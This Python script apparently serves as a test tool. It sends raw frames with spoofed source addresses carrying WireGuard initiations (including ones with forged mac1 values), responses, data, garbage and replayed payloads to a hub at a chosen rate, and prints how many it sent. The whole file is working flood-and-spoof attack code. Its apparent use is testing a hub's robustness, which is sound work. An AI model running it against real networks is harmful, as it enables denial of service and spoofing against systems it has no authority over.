#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Sends WireGuard messages with any source to the hub, as an attacker on its wire could. Prints how many it has sent.

  attack.py INTERFACE HUB_MAC FROM TO KIND COUNT RATE [ARGUMENT]

FROM and TO are ADDRESS:PORT or [ADDRESS]:PORT; RATE is packets a second. KIND is
  bad-mac1        initiations whose mac1 fits nobody
  hub-mac1        initiations with the mac1 of the public key ARGUMENT (base64), which anybody can make who has seen a token
  responses       responses of random indexes
  data            data of random indexes
  garbage         every type at every length
  replay          the payload ARGUMENT (hex), again and again
"""
import base64
import hashlib
import os
import socket
import struct
import sys
import time

interface, hub_mac, source, target, kind, count, rate = sys.argv[1:8]
argument = sys.argv[8] if len(sys.argv) > 8 else ""


def endpoint(text):
    address, _, port = text.rpartition(":")
    return address.strip("[]"), int(port)


def summed(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF


def frame(payload):
    (src, sport), (dst, dport) = endpoint(source), endpoint(target)
    v6 = ":" in src
    family = socket.AF_INET6 if v6 else socket.AF_INET
    a, b = socket.inet_pton(family, src), socket.inet_pton(family, dst)
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    check = summed(a + b + struct.pack("!HH", 17, len(udp)) + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", check) + udp[8:]
    if v6:
        header = struct.pack("!IHBB", 6 << 28, len(udp), 17, 64) + a + b
    else:
        header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0) + a + b
        header = header[:10] + struct.pack("!H", summed(header)) + header[12:]
    return bytes.fromhex(hub_mac.replace(":", "")) + b"\2\0\0\0\0\x66" + struct.pack("!H", 0x86DD if v6 else 0x0800) + header + udp


def initiation(mac1=None):
    body = b"\1\0\0\0" + os.urandom(112)
    return body + (mac1(body) if mac1 else os.urandom(16)) + bytes(16)


def payload(number):
    if kind == "bad-mac1":
        return initiation()
    if kind == "hub-mac1":
        key = hashlib.blake2s(b"mac1----" + base64.b64decode(argument)).digest()
        return initiation(lambda body: hashlib.blake2s(body, key=key, digest_size=16).digest())
    if kind == "responses":
        return b"\2\0\0\0" + os.urandom(88)
    if kind == "data":
        return b"\4\0\0\0" + os.urandom(92)
    if kind == "garbage":
        return bytes([number % 6]) + os.urandom(number // 6 % 1400)
    return bytes.fromhex(argument)


sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sock.bind((interface, 0))
begin, sent = time.monotonic(), 0
for i in range(int(count)):
    sent += sock.send(frame(payload(i))) > 0
    late = begin + (i + 1) / float(rate) - time.monotonic()
    if late > 0.002:
        time.sleep(late)
print(sent)
